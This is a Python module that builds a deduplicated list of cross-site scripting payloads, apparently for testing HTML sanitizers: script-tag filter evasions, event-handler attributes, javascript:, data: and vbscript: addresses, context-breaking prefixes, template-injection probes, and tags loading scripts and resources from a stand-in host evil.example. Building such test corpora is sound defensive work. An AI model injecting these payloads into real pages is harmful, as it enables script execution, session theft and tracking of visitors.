"""Texts that would run or load something if a page showed them as they are."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

MARK = "injected"
_RUN = f"window.{MARK}=1"
_EVENTS = (
    "onerror onload onclick onfocus onmouseover onanimationstart ontoggle onpointerenter".split()
)
_ELEMENTS = {
    "onerror": ("<img src=x {0}>", "<video><source {0}></video>", "<object data=x {0}>"),
    "onload": ("<svg {0}>", "<body {0}>", "<iframe {0} src=about:blank>", "<style {0}></style>"),
    "onclick": ("<a href=# {0}>x</a>", "<button autofocus {0}>x</button>"),
    "onfocus": ("<input autofocus {0}>", "<p tabindex=0 autofocus {0}>x</p>"),
    "onmouseover": ("<b {0}>x</b>", "<marquee {0}>x</marquee>"),
    "onanimationstart": ("<i style=animation:spin {0}>x</i>",),
    "ontoggle": ("<details open {0}>x</details>",),
    "onpointerenter": ("<q {0}>x</q>",),
}
_QUOTES = ('{0}="{1}"', "{0}='{1}'", "{0}={1}", "{0}\n=\n{1}", "{0}=`{1}`")
_SCRIPTS = (
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<svg><script>{0}</script></svg>",
    "<math><mtext><script>{0}</script></mtext></math>",
    "<noscript><p title='</noscript><script>{0}</script>'>",
    "<template><script>{0}</script></template>",
    "<!--><script>{0}</script>-->",
    "<![CDATA[<script>{0}</script>]]>",
    "<xmp><script>{0}</script></xmp>",
    "<plaintext><script>{0}</script>",
    "\ufeff<script>{0}</script>",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "&lt;script&gt;{0}&lt;/script&gt;",
)
_BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "--></style>",
    "]]>",
    "</summary></entry>",
)
_ADDRESSES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " javascript:{0}",
    "\x01javascript:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "javascript&colon;{0}",
    "&#106;avascript:{0}",
    "vbscript:{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload={0}>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://evil.example/"onclick="{0}',
    "https://evil.example/' onclick='{0}",
    "https://evil.example/><script>{0}</script>",
)
_HOLDERS = (
    '<a href="{0}">x</a>',
    '<img src="{0}">',
    '<iframe src="{0}"></iframe>',
    '<form action="{0}"><button>x</button></form>',
    '<embed src="{0}">',
    '<base href="{0}">',
    '<svg><a xlink:href="{0}"><text>x</text></a></svg>',
)
_LOADS = (
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=preconnect href=//evil.example>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    '<p style="background:url(//evil.example/x)">x</p>',
    "<img srcset='//evil.example/x 1x'>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<audio src=//evil.example/x autoplay>",
    "<table background=//evil.example/x><tr><td>x</table>",
    "<input type=image src=//evil.example/x>",
    "<a ping=//evil.example/x href=https://a.example>x</a>",
    "<object data=//evil.example/x></object>",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>",
)


def payloads() -> list[str]:
    """Return every text once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for script, broken in product(_SCRIPTS, _BREAKS):
        yield broken + script.format(_RUN)
    for event, elements in _ELEMENTS.items():
        for element, quoted in product(elements, _QUOTES):
            yield element.format(quoted.format(event, _RUN))
    yield from addresses()
    for holder, address in product(_HOLDERS, _ADDRESSES):
        yield holder.format(address.format(_RUN))
    yield from _LOADS


def addresses() -> list[str]:
    """Return those that stand where an address is."""
    return [address.format(_RUN) for address in _ADDRESSES]
